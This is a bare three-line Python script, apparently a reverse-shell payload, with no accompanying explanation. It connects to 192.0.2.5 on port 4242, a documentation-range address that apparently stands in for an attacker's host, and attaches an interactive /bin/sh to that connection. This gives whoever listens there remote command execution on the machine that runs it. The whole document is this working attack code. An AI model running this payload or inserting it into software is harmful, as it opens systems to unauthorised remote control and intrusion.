import socket,subprocess
s=socket.create_connection(('192.0.2.5',4242))
subprocess.Popen(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s)
